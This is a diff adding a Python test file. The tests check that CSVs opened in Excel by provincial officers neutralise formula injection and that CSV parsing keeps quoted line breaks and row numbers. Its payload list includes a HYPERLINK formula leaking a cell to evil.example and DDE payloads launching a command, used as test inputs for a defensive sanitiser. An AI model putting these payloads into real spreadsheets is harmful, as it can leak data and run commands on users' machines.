@@ -1,0 +1,70 @@
+"""CSV files as spreadsheets write and read them.
+
+Every CSV the tool writes (itas.csv, province.csv) is opened in Excel by provincial officers: no cell
+may start a formula (OWASP's = + - @ tab CR). Every CSV it reads (an ITAS list, a province manifest)
+is read by the csv module over the whole text: a quoted cell keeps its line break, a NEL or a line
+separator inside a cell splits nothing, and a row's number is the physical line it starts on.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from checks.province.summary import UnitLine, province_csv
+from generator.basics.errors import ConfigError
+from generator.basics.textfile import FORMULA_START, csv_rows, csv_text
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
+cells = st.one_of(st.sampled_from(FORMULAS), st.text(max_size=20))
+
+
+def cells_of(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@settings(max_examples=150, deadline=None)
+@given(rows=st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=5))
+def test_no_cell_written_starts_a_formula(rows):
+    for row in cells_of(csv_text(rows)):
+        assert not any(cell.startswith(FORMULA_START) for cell in row)
+
+
+@settings(max_examples=60, deadline=None)
+@given(unit=cells, detail=cells)
+def test_the_province_csv_neutralises_names_from_the_manifest(unit, detail):
+    line = UnitLine(unit, "https://www.tambon.example/", "error", detail, None, None, (), 0, 0, ())
+    [_, row] = cells_of(province_csv([line]))
+    assert not any(cell.startswith(FORMULA_START) for cell in row)
+    assert row[0].removeprefix("'") == unit.replace("\r\n", "\n").replace("\r", "\n") or row[0].startswith("'")
+
+
+def write(tmp_path, text: str):
+    path = tmp_path / "itas.csv"
+    path.write_bytes(text.encode("utf-8"))
+    return path
+
+
+def test_a_nel_or_line_separator_in_a_cell_splits_no_row(tmp_path):
+    path = write(tmp_path, "item,url\nO1,https://www.tambon.example/a\x85b\nO2,https://www.tambon.example/c\u2028d\n")
+    assert list(csv_rows(path, "itas.csv", ["item", "url"])) == [
+        (2, ["O1", "https://www.tambon.example/a\x85b"]), (3, ["O2", "https://www.tambon.example/c\u2028d"])]
+
+
+def test_a_quoted_cell_keeps_its_line_break_and_rows_keep_their_physical_lines(tmp_path):
+    path = write(tmp_path, 'unit,main_website,source\r\n"เทศบาลตำบล\r\nหนองน้ำใส",https://www.tambon.example/,a.csv\r\n'
+                           "อบต.ข,https://b.example/,b.csv\r\n")
+    rows = list(csv_rows(path, "units.csv", ["unit", "main_website", "source"]))
+    assert rows == [(2, ["เทศบาลตำบล\r\nหนองน้ำใส", "https://www.tambon.example/", "a.csv"]),
+                    (4, ["อบต.ข", "https://b.example/", "b.csv"])]
+
+
+def test_an_unclosed_quote_names_its_line(tmp_path):
+    path = write(tmp_path, 'item,url\nO1,"https://www.tambon.example/\nO2,x\n')
+    with pytest.raises(ConfigError, match="itas.csv:"):
+        list(csv_rows(path, "itas.csv", ["item", "url"]))
